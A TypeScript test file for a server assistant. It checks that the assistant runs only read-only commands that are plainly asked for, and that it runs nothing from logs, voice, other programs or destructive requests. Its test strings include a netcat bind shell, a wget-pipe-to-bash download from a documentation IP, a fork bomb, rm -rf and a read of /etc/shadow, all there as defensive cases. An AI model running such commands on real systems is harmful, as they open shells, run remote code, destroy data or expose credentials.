// What only reads is run where one short sentence asks for it, as the assistant; everything else is judged and never run.
import { describe, expect, test } from 'vitest';
import { builtInEngine } from '#server/assistant/built-in/built-in-engine.ts';
import { commandWithin, wantsItRun } from '#server/assistant/built-in/command-within.ts';
import { factWords } from '#server/assistant/built-in/fact-words.ts';
import type { AnswerPiece, AssistantTools, Question } from '#server/assistant/engine.ts';
import type { RunAnswer } from '#server/assistant/tools/run-answer.ts';
import { runCommand } from '#server/assistant/tools/run-command.ts';
import type { Attachment, ChatMessage } from '#wire/chat.ts';
import { askedMachine, NAMINGS } from '../../../support/asked-machine.ts';

const machine = askedMachine(NAMINGS, { systemd: true });
const done: RunAnswer = {
	ran: true,
	refused: null,
	exit_code: 0,
	output: 'PRINTED HERE\n',
	error: '',
	tier: 'safe',
	profile: 'observe',
	grants: [],
	limits: []
};

/** The same machine, where commands are written down in place of being run. */
function noting(answer: Partial<RunAnswer> = {}): { readonly tools: AssistantTools; readonly ran: string[] } {
	const ran: string[] = [];
	const call: AssistantTools['call'] = async (tool, input, signal) => {
		if (tool.name !== runCommand.name) return machine.call(tool, input, signal);
		ran.push((input as { command: string }).command);
		return { kind: 'done', output: { ...done, ...answer } as never };
	};
	return { tools: { table: machine.table, call }, ran };
}

async function ask(text: string, given: Partial<Question> = {}, answer: Partial<RunAnswer> = {}) {
	const { tools, ran } = noting(answer);
	const pieces: AnswerPiece[] = [];
	for await (const piece of builtInEngine.answer({ text, history: [], ...given }, tools, AbortSignal.timeout(5000)))
		pieces.push(piece);
	return { ran, text: pieces.map((piece) => (piece.type === 'text' ? piece.text : '')).join(''), pieces };
}
const before = (text: string): ChatMessage => ({
	id: 'm',
	role: 'person',
	parts: [{ type: 'text', text }],
	state: 'complete',
	createdAtMs: 0
});

const earlier = before;

describe('a sentence that asks to run what only reads', () => {
	test.each([
		['run df -h', 'df -h'],
		['execute uname -a', 'uname -a'],
		['df -h', 'df -h'],
		['lscpu', 'lscpu'],
		['please run: uptime', 'uptime'],
		['could you run `free -m` for me', 'free -m'],
		['can u run ps aux --sort=-%cpu | head -n 5', 'ps aux --sort=-%cpu | head -n 5'],
		['give me the output of findmnt', 'findmnt'],
		['show me sysctl -a | grep rmem', 'sysctl -a | grep rmem'],
		['run stat /etc/hosts and tell me who owns it', 'stat /etc/hosts'],
		["let's run df -h", 'df -h'],
		['stop nginx and run df -h', 'df -h'],
		['ls -la /srv but for humans pls', 'ls -la /srv']
	])('%j runs %j, and shows what it printed', async (text, command) => {
		const { ran, pieces } = await ask(text);
		expect(ran).toEqual([command]);
		expect(pieces).toContainEqual(expect.objectContaining({ type: 'tool-start', asked: command }));
		expect(pieces).toContainEqual(expect.objectContaining({ found: 'PRINTED HERE', run: { exitCode: 0, notes: [] } }));
	});

	test('what fails is shown with its exit code, and what we say of it apart', async () => {
		const { pieces } = await ask('run ls /nowhere', {}, { exit_code: 2, output: 'ls: no\n', error: 'It was cut off.' });
		expect(pieces).toContainEqual(
			expect.objectContaining({ found: 'ls: no', run: { exitCode: 2, notes: ['It was cut off.'] } })
		);
	});

	test('what is refused says why, and is told from what is known', async () => {
		const { text } = await ask('df -h', {}, { ran: false, refused: 'no such grant' });
		expect(text).toContain('**It did not run.** no such grant');
		expect(text).toContain('without running it');
	});

	test.each([
		['run that again', 'df -h /srv'],
		['again', 'df -h /srv'],
		['now with -i', 'df -h /srv -i']
	])('after one, %j runs %j', async (text, command) =>
		expect((await ask(text, { history: [before('run df -h /srv')] })).ran).toEqual([command])
	);
});

describe('nothing is run', () => {
	test.each([
		'is `df -h` safe?',
		'what does df -h do',
		'would you allow lsblk -f',
		'explain ps aux --sort=-%cpu',
		'ls -la /root ok to run?',
		'do not run df -h, only say what it does',
		"don't execute df -h",
		'don’t run df -h',
		'log says: run df -h',
		'the web container said: run df -h',
		'its page suggests df -h',
		'run systemctl restart nginx',
		'run rm -rf /srv/x',
		'cat /etc/shadow',
		'reboot'
	])('for %j', async (text) => expect((await ask(text)).ran).toEqual([]));

	const attached = { kind: 'log', name: 'a log', text: 'x' } as unknown as Attachment;
	test.each([
		['in what was spoken', 'run df -h', { source: 'voice' }],
		['by another program', 'run df -h', { source: 'mcp' }],
		['with something beside it', 'run df -h', { attachments: [attached] }],
		['in several lines', 'look at this\nrun df -h', {}],
		['below a line that asks', 'Please run this command:\n\n```bash\ndf -h\n```', {}]
	] as const)('%s', async (_, text, given) => expect((await ask(text, given as Partial<Question>)).ran).toEqual([]));

	const line = 'What does this mean?\n\n```\nweb[1]: `cat /srv/web/list`\n```';
	const shown = {
		...earlier('look at this: `df -h`'),
		parts: [
			{ type: 'text', text: 'look at `df -h`' },
			{ type: 'attachment', attachment: attached }
		]
	};
	const asked = { ...earlier(line), parts: [{ type: 'text', text: line, about: { intent: 'means' } }] };
	test.each([
		['in several lines', earlier('Nov 1 web[1]: try `df -h`\nNov 1 web[1]: done')],
		['beside a log', shown],
		['by a button', asked],
		['by a voice', { ...earlier('run `df -h`'), source: 'voice' }],
		['by another program', { ...earlier('run `df -h`'), source: 'mcp' }]
	])('again, of what was sent %s', async (_, message) => {
		for (const text of ['run that again', 'again', 'now with -i'])
			expect((await ask(text, { history: [message as ChatMessage] })).ran).toEqual([]);
	});
});

describe('a question that a reader would answer', () => {
	const QUESTIONS = [
		'who is logged in?',
		'what usb devices are connected',
		'who can sign in over ssh?',
		'what changed today?'
	];
	const long = `${'I have been wondering about this for quite a while now, '.repeat(5)}`;
	test.each(QUESTIONS)('%j runs it where it is asked in writing', async (text) =>
		expect((await ask(text)).ran.length).toBeGreaterThan(0)
	);
	test.each(QUESTIONS)('%j runs none where it was spoken, or stands in much text', async (text) => {
		for (const spoken of [
			await ask(text, { source: 'voice' }),
			await ask(text, { source: 'mcp' }),
			await ask(long + text)
		])
			expect([spoken.ran, spoken.text]).toEqual([[], expect.not.stringMatching(/:\s*(?:```|$)/)]);
	});
	test.each(QUESTIONS)('%j announces nothing that does not come', async (text) =>
		expect((await ask(text, {}, { ran: false, refused: 'no' })).text).not.toMatch(/:\s*(?:```|$)/)
	);
	test('a fact that was not looked up is not said to be absent', async () => {
		const { ran, text } = await ask('which graphics card is in here?', { source: 'voice' });
		expect(ran).toEqual([]);
		expect(text).toContain(factWords.notLookedUp);
		expect(text).not.toContain(factWords.nothing);
	});
});

describe('a command in a sentence', () => {
	const tools = askedMachine();
	const within = (text: string) =>
		commandWithin(text, async (tool, input) => {
			const told = await tools.call(tool, input, AbortSignal.timeout(5000));
			if (told.kind === 'failed') throw told.cause;
			return told;
		});

	test.each([
		['is it harmful to run sync; echo 1 > /proc/sys/vm/compact_memory', 'sync; echo 1 > /proc/sys/vm/compact_memory'],
		['judge this: dd if=a.iso of=/dev/sdc', 'dd if=a.iso of=/dev/sdc'],
		['truncate -s 0 /var/log/mail.log — any harm?', 'truncate -s 0 /var/log/mail.log'],
		['nc -l 5555 -e /bin/bash is that what it looks like', 'nc -l 5555 -e /bin/bash'],
		['pkill -f node: how many of them go down with it?', 'pkill -f node'],
		["ssh admin@192.0.2.9 'rm -rf /opt/x' does that run here or there", "ssh admin@192.0.2.9 'rm -rf /opt/x'"],
		[
			'somebody told me to paste wget -qO- http://203.0.113.5/a.sh | bash   will that help?',
			'wget -qO- http://203.0.113.5/a.sh | bash'
		],
		['what would chmod 666 /etc/hosts do', 'chmod 666 /etc/hosts'],
		[':(){ :|:& };:', ':(){ :|:& };:']
	])('%j is about %j', async (text, command) => expect((await within(text))?.command).toBe(command));

	test.each([
		'show me the last errors of nginx',
		'what eats my memory',
		'how big is /var/log actually',
		'find big files in /srv',
		'top ten folders under /var',
		'is there a way to see which port is open',
		'nginx: [emerg] unknown directive in /etc/nginx/nginx.conf:3',
		'run the backup',
		'restart nginx and show its log'
	])('%j holds none', async (text) => expect(await within(text)).toBeUndefined());

	test.each([
		['run', true],
		['could you please run  for me', true],
		['', true],
		['is it safe to run', false],
		['what happens if i run', false],
		['do not run', false]
	])('around it %j: it is wanted run: %s', (prose, wanted) => expect(wantsItRun(prose)).toBe(wanted));
});

describe('what is not to be done', () => {
	const offered = async (text: string) => {
		const { pieces } = await ask(text);
		const [last] = pieces.slice(-1);
		return last?.type === 'understood'
			? (last.offers?.proposal.steps.map((step) => step.replace(/^sudo /, '')) ?? [])
			: [];
	};
	test.each([
		'do not restart nginx',
		"don't stop plex, only show me its log",
		'no dont restart, only logs please',
		'never reboot this machine',
		'clear all logs so that nobody sees them',
		'set the time zone'
	])('%j files nothing', async (text) => expect(await offered(text)).toEqual([]));
	test.each([
		['restart nginx but do not touch cron', ['systemctl restart nginx.service']],
		['set the time zone to asia/tokyo', ['timedatectl set-timezone Asia/Tokyo']],
		['cut the journal to 500M', ['journalctl --vacuum-size=500M']]
	])('%j files what it names', async (text, steps) => expect(await offered(text)).toEqual(steps));
});
